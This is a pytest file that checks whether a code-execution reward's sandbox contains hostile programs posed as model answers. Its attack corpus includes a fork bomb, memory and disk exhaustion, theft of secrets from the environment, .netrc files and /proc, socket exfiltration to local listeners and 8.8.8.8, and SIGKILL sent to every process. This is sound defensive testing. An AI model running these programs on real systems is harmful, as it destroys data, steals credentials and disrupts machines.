"""Untrusted code: the attack corpus against the code_execution reward as users call it
(`registry.get("code_execution")`, `evaluate` / `evaluate_batch`), not against `run_python`
directly (tests/test_sandbox.py owns the sandbox's own limits).

Every attack answers a stdin/stdout test whose expected output is a canary: an attack that
escapes prints the canary and scores 1.0; a contained one scores 0.0 with a reason naming what
stopped it (error / timeout / killed / memory, or a wrong output when it found nothing). Around
each attack the machine is checked: this process alive, no process left by the run (its per-run
uid, a marker in the command line, a child of this process), disk free space back, no file
written outside the run, no connection arriving at the listeners this test opened. Then a mix of
attacks runs 100 times through two callers' batches at once (2 sandboxes each, the reward's
default pool: 4 at a time, as 2 Ray scoring workers would) and every one must be contained.
"""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
import textwrap
import time
import uuid
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path

import psutil
import pytest

from rm_rewards.core import registry
from rm_rewards.core.schema import ChatMessage, Response, Sample
from rm_rewards.rules import code as code_rules

pytestmark = pytest.mark.slow

PROJECT_DIR = Path(__file__).resolve().parents[2]
TOKEN = uuid.uuid4().hex[:12]
CANARY = f"canary-secret-{TOKEN}"  # the loot: in the environment, in files, in another process
CANARY_ENV = "RMFORGE_RELIABILITY_CANARY"
MARKER = f"rmforge-attack-{TOKEN}"  # in the command line of every process an attack starts
TIMEOUT_S = 2.0  # per program: attacks that hang are cut here
DISK_SLACK_BYTES = 200 * 1024 * 1024  # other engineers write too; an escaped filler writes 1 GB


# --- the machine's state ------------------------------------------------------------------------


@dataclass
class Canaries:
    """What the attacks try to reach; all of it is this test's own and removed afterwards."""

    files: list[Path]
    probes: list[Path]  # paths an attack tries to create outside its folder
    environ_pid: int  # a process started with the canary in its environment
    tcp4: socket.socket
    tcp6: socket.socket | None
    udp4: socket.socket
    unix_path: str
    unix: socket.socket
    abstract: socket.socket

    def listeners(self) -> list[socket.socket]:
        return [s for s in (self.tcp4, self.tcp6, self.udp4, self.unix, self.abstract) if s is not None]


def nothing_arrived(canaries: Canaries) -> list[str]:
    """Connections or datagrams that reached this test's listeners (none may)."""
    arrived = []
    for listener in canaries.listeners():
        listener.setblocking(False)
        try:
            if listener.type == socket.SOCK_DGRAM:
                arrived.append(f"datagram {listener.recv(100)!r}")
            else:
                arrived.append(f"connection at {listener.accept()[0].getsockname()!r}")
        except BlockingIOError:
            pass
    return arrived


def _listen(family: int, address, kind: int = socket.SOCK_STREAM) -> socket.socket:
    sock = socket.socket(family, kind)
    sock.bind(address)
    if kind == socket.SOCK_STREAM:
        sock.listen(16)
    return sock


@pytest.fixture(scope="module")
def canaries(tmp_path_factory):
    """The canary secret in this process's environment, in files in its working directory, its
    home and the project folder, in another process's environment; listeners on loopback (IPv4,
    IPv6, UDP), a world-connectable unix socket in /run and an abstract one. The working
    directory and home are in /srv (not /tmp, which the sandbox hides anyway)."""
    base = Path("/srv") if os.access("/srv", os.W_OK) else PROJECT_DIR
    outside = base / f"rmforge-reliability-{TOKEN}"
    project_canary = PROJECT_DIR / f".reliability-canary-{TOKEN}"
    run_dir = Path("/run") / f"rmforge-reliability-{TOKEN}"
    cwd, home = outside / "cwd", outside / "home"
    for folder in (cwd, home, project_canary):
        folder.mkdir(parents=True)
        folder.chmod(0o755)
    files = [cwd / "secret.txt", home / ".netrc", project_canary / "secret.txt"]
    for path in files:
        path.write_text(f"machine api.example.com password {CANARY}\n")
        path.chmod(0o644)  # as a user's files usually are: readable by anyone who can reach them
    probes = [Path(p) / f"probe-{TOKEN}" for p in ("/etc", "/tmp", "/var/tmp", "/dev/shm", cwd, home, PROJECT_DIR)]
    helper = subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(600)"], env={**os.environ, CANARY_ENV: CANARY}
    )
    run_dir.mkdir(mode=0o755, exist_ok=True)
    unix_path = str(run_dir / "service.sock")
    unix = _listen(socket.AF_UNIX, unix_path)
    os.chmod(unix_path, 0o777)  # world-connectable, as D-Bus's or PostgreSQL's socket
    try:
        tcp6 = _listen(socket.AF_INET6, ("::1", 0))
    except OSError:
        tcp6 = None
    found = Canaries(
        files=files, probes=probes, environ_pid=helper.pid,
        tcp4=_listen(socket.AF_INET, ("127.0.0.1", 0)), tcp6=tcp6,
        udp4=_listen(socket.AF_INET, ("127.0.0.1", 0), socket.SOCK_DGRAM),
        unix_path=unix_path, unix=unix, abstract=_listen(socket.AF_UNIX, f"\0rmforge-reliability-{TOKEN}"),
    )
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv(CANARY_ENV, CANARY)
        patch.setenv("HOME", str(home))
        patch.chdir(cwd)
        try:
            yield found
        finally:
            for listener in found.listeners():
                listener.close()
            helper.kill()
            helper.wait()
            for path in probes:
                path.unlink(missing_ok=True)
            shutil.rmtree(outside, ignore_errors=True)
            shutil.rmtree(project_canary, ignore_errors=True)
            shutil.rmtree(run_dir, ignore_errors=True)


@pytest.fixture
def run_uids(monkeypatch):
    """The per-run uids of every sandbox the reward starts (observed, not changed): a process of
    one of these uids alive afterwards is a leftover of ours, not another test's."""
    seen: list[int] = []
    real_run_many = code_rules.run_many

    def recording(jobs, *, max_workers):
        results = real_run_many(jobs, max_workers=max_workers)
        seen.extend(r.uid for r in results if r.uid is not None)
        return results

    monkeypatch.setattr(code_rules, "run_many", recording)
    return seen


def leftovers(uids: list[int], spared: set[int]) -> list[str]:
    """Live processes of this test's sandboxes: a per-run uid, the marker, or our child."""
    found = []
    wanted = set(uids)
    for proc in psutil.process_iter(["pid", "uids", "status", "cmdline"]):
        try:
            if proc.info["status"] == psutil.STATUS_ZOMBIE or proc.pid in spared:
                continue
            cmdline = " ".join(proc.info["cmdline"] or ())
            if (proc.info["uids"] and proc.info["uids"].real in wanted) or MARKER in cmdline:
                found.append(f"{proc.pid} {cmdline[:120]}")
        except psutil.Error:
            continue
    for child in psutil.Process().children(recursive=True):
        if child.pid not in spared and child.is_running() and child.status() != psutil.STATUS_ZOMBIE:
            found.append(f"{child.pid} child {' '.join(child.cmdline())[:120]}")
    return found


def settled(uids: list[int], spared: set[int], timeout_s: float = 10.0) -> list[str]:
    """Leftovers once the kernel finished tearing the runs' pid namespaces down."""
    deadline = time.monotonic() + timeout_s
    while (found := leftovers(uids, spared)) and time.monotonic() < deadline:
        time.sleep(0.1)
    return found


def disk_free() -> dict[str, int]:
    return {path: shutil.disk_usage(path).free for path in ("/", "/dev/shm")}


# --- the attacks ------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Attack:
    name: str
    program: str
    stopped_by: tuple[str, ...]  # what the reason must name: how the sandbox stopped it


def attacks(c: Canaries) -> list[Attack]:
    loot = f"""
import os, sys
CANARY = {CANARY!r}
def found(text):
    if CANARY in text:
        print(CANARY)
        sys.exit(0)
"""
    spawn = f"[sys.executable, '-c', 'import time; time.sleep(60)', {MARKER!r}]"
    return [
        Attack("fork bomb", "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n",
               ("timeout",)),
        Attack("memory hog", "x = bytearray(8 * 1024 ** 3)\nprint(len(x))\n", ("memory: MemoryError",)),
        # Under load the wall clock can stop it before the address-space limit does: both contain it.
        Attack("growing memory hog", "chunks = []\nwhile True:\n    chunks.append(b'x' * (64 * 1024 ** 2))\n",
               ("memory: MemoryError", "timeout")),
        Attack("disk filler", loot + textwrap.dedent(f"""
            chunk = b"x" * (1024 * 1024)
            errors = []
            for folder in [".", "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), {str(c.files[0].parent)!r}]:
                try:
                    for n in range(1024):  # 1 GB per folder, 8 MB per file (under the file size limit)
                        with open(os.path.join(folder, f"fill-{TOKEN}-{{n // 8}}"), "ab") as handle:
                            handle.write(chunk)
                except OSError as exc:
                    errors.append(f"{{folder}}: {{exc.strerror}}")
            raise OSError("; ".join(errors))
            """), ("error: OSError",)),
        Attack("write outside its folder", loot + textwrap.dedent(f"""
            written = []
            for path in {[str(p) for p in c.probes] + [f"../probe-{TOKEN}"]!r}:
                try:
                    with open(path, "w") as handle:
                        handle.write(CANARY)
                    written.append(path)
                except OSError:
                    pass
            if written:
                print(CANARY, written)
                sys.exit(0)  # escaped: the canary is the expected output
            raise PermissionError("nothing written outside")
            """), ("error: PermissionError",)),
        Attack("environment secrets", loot + textwrap.dedent(f"""
            found(repr(dict(os.environ)))
            print(os.environ[{CANARY_ENV!r}])
            """), ("error: KeyError",)),
        Attack("the parent's files", loot + textwrap.dedent(f"""
            for path in {[str(p) for p in c.files]!r} + [os.path.expanduser("~/.netrc"), "/root/.netrc"]:
                try:
                    found(open(path).read())
                except OSError:
                    pass
            for folder in {[str(c.files[0].parent), str(PROJECT_DIR)]!r}:
                for root, _, names in os.walk(folder):
                    for name in names:
                        try:
                            found(open(os.path.join(root, name), errors="replace").read(1 << 20))
                        except OSError:
                            pass
            raise FileNotFoundError("no secret file reachable")
            """), ("error: FileNotFoundError",)),
        Attack("sockets", loot + textwrap.dedent(f"""
            import socket
            targets = [(socket.AF_INET, ("127.0.0.1", {c.tcp4.getsockname()[1]})),
                       (socket.AF_INET6, ("::1", {c.tcp6.getsockname()[1] if c.tcp6 else 9})),
                       (socket.AF_INET, ("8.8.8.8", 53)),
                       (socket.AF_UNIX, {c.unix_path!r}),
                       (socket.AF_UNIX, "\\0rmforge-reliability-{TOKEN}")]
            reached, refused = [], []
            for family, address in targets:
                try:
                    sock = socket.socket(family, socket.SOCK_STREAM)
                    sock.settimeout(1)
                    sock.connect(address)
                    sock.sendall(CANARY.encode())
                    reached.append(address)
                except OSError as exc:
                    refused.append(f"{{address}}: {{exc.strerror}}")
            try:
                socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(
                    CANARY.encode(), ("127.0.0.1", {c.udp4.getsockname()[1]}))
                reached.append("udp")
            except OSError as exc:
                refused.append(f"udp: {{exc.strerror}}")
            if reached:
                print(CANARY, reached)
                sys.exit(0)  # escaped: the canary is the expected output
            raise ConnectionError("; ".join(refused))
            """), ("error: ConnectionError",)),
        Attack("sleeping past the limit", "import time\ntime.sleep(60)\nprint('woke')\n", ("timeout",)),
        Attack("signalling its parent", textwrap.dedent(f"""
            import os, signal
            for pid in (os.getppid(), {os.getpid()}, 1):
                for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
                    try:
                        os.kill(pid, sig)
                    except OSError:
                        pass
            try:
                os.kill(-1, signal.SIGKILL)  # every process it may signal
            except OSError:
                pass
            os.killpg(0, signal.SIGKILL)  # its own group: itself
            """), ("killed: killed by SIGKILL", "timeout")),
        Attack("a daemon that outlives it", textwrap.dedent(f"""
            import os, sys, time
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    os.execv(sys.executable, {spawn})
                os._exit(0)
            time.sleep(0.3)
            print("daemon started")
            """), ("wrong output (expected",)),
        Attack("other processes' /proc", loot + textwrap.dedent(f"""
            seen = []
            for pid in ["1", "{os.getpid()}", "{c.environ_pid}", "{os.getppid()}"] + os.listdir("/proc"):
                for part in ("environ", "cmdline", "root/proc/{c.environ_pid}/environ"):
                    try:
                        text = open(f"/proc/{{pid}}/{{part}}", "rb").read().decode("utf-8", "replace")
                        seen.append(f"{{pid}}/{{part}}")
                        found(text)
                        found(os.readlink(f"/proc/{{pid}}/cwd"))
                    except (OSError, ValueError):
                        pass
            if any(p.startswith(("{os.getpid()}/", "{c.environ_pid}/")) for p in seen):
                print(CANARY, seen)
                sys.exit(0)  # escaped: the canary is the expected output
            raise FileNotFoundError("host processes not visible; read " + ",".join(sorted(set(seen)))[:200])
            """), ("error: FileNotFoundError",)),
    ]


def attack_sample(attack: Attack, index: int = 0) -> Sample:
    return Sample(
        id=f"{attack.name}-{index}",
        source="reliability",
        input=[ChatMessage(role="user", content="solve it")],
        responses=[Response(message=ChatMessage(role="assistant", content=f"```python\n{attack.program}```\n"))],
        metadata={"test_cases": [{"input": "", "output": CANARY}]},
    )


def contained(attack: Attack, result) -> str | None:
    """None when the attack was contained; else what went wrong."""
    (score,) = result.scores
    # A wrong output's reason quotes the expected output (the canary) before what the program printed.
    told = ((score.reason or "") + (score.error or "")).replace(f"expected {CANARY!r}", "expected …")
    if score.score != 0.0 or CANARY in told:
        return f"{attack.name} ESCAPED: score {score.score}, {score.reason or score.error}"
    if not any(f"case 1: {what}" in score.reason for what in attack.stopped_by):
        return f"{attack.name}: unclear outcome: {score.reason}"
    return None


def the_reward():
    return registry.get("code_execution", timeout_s=TIMEOUT_S)


# --- one attack at a time ---------------------------------------------------------------------------


ATTACK_NAMES = [
    "fork bomb", "memory hog", "growing memory hog", "disk filler", "write outside its folder",
    "environment secrets", "the parent's files", "sockets", "sleeping past the limit",
    "signalling its parent", "a daemon that outlives it", "other processes' /proc",
]


@pytest.mark.parametrize("name", ATTACK_NAMES)
def test_each_attack_is_contained_and_leaves_the_machine_as_it_was(name, canaries, run_uids):
    (attack,) = [a for a in attacks(canaries) if a.name == name]
    spared = {canaries.environ_pid}
    assert leftovers([], spared) == [], "processes of an earlier attack are still alive"
    free_before = disk_free()
    result = the_reward().evaluate(attack_sample(attack))
    arrived = nothing_arrived(canaries)  # drained now, so a failure here does not spill into the next attack
    assert contained(attack, result) is None, contained(attack, result)
    assert run_uids, "the reward ran no sandbox"
    assert settled(run_uids, spared) == []
    assert psutil.pid_exists(canaries.environ_pid) and os.getppid() != 1  # nothing here was killed
    for path, free in disk_free().items():
        assert free > free_before[path] - DISK_SLACK_BYTES, f"{path} lost {free_before[path] - free} bytes"
    assert [p for p in canaries.probes if p.exists()] == []
    assert list(Path(canaries.files[0].parent).glob("fill-*")) == []
    assert arrived == []
    assert os.environ[CANARY_ENV] == CANARY  # the secret was there to steal


# --- under load ---------------------------------------------------------------------------------


RUNS_UNDER_LOAD = 100
CALLERS = 2  # two rule-scoring callers at once, each with the reward's default pool of 2


def test_a_hundred_attacks_in_parallel_are_all_contained(canaries, run_uids):
    corpus = attacks(canaries)
    samples = [attack_sample(corpus[i % len(corpus)], i) for i in range(RUNS_UNDER_LOAD)]
    by_id = {s.id: corpus[i % len(corpus)] for i, s in enumerate(samples)}
    halves = [samples[k::CALLERS] for k in range(CALLERS)]
    spared = {canaries.environ_pid}
    free_before = disk_free()
    load_before = os.getloadavg()[0]
    began = time.monotonic()
    with ThreadPoolExecutor(CALLERS) as callers:
        batches = list(callers.map(lambda half: the_reward().evaluate_batch(half), halves))
    wall = time.monotonic() - began
    results = [r for batch in batches for r in batch]
    arrived = nothing_arrived(canaries)
    problems = [p for r in results if (p := contained(by_id[r.sample_id], r))]
    assert len(results) == RUNS_UNDER_LOAD
    assert len(set(run_uids)) == RUNS_UNDER_LOAD  # one sandbox, one uid per attack
    left = settled(run_uids, spared)
    assert left == []
    assert problems == [], f"{len(problems)} of {RUNS_UNDER_LOAD} not contained: {problems[:5]}"
    for path, free in disk_free().items():
        assert free > free_before[path] - DISK_SLACK_BYTES
    assert [p for p in canaries.probes if p.exists()] == []
    assert arrived == []
    # Each program is bounded by its wall clock: 4 at a time can take no longer than this.
    bound = RUNS_UNDER_LOAD * (TIMEOUT_S + 3) / (CALLERS * 2) + 30
    assert wall < bound, f"{wall:.0f}s for {RUNS_UNDER_LOAD} attacks (bound {bound:.0f}s)"
    print(f"\n{RUNS_UNDER_LOAD} attacks ({len(corpus)} kinds), {CALLERS} callers x 2 sandboxes: "
          f"{RUNS_UNDER_LOAD - len(problems)} contained, {len(left)} leftover processes, {wall:.1f}s; "
          f"load average {load_before:.2f} -> {os.getloadavg()[0]:.2f}")

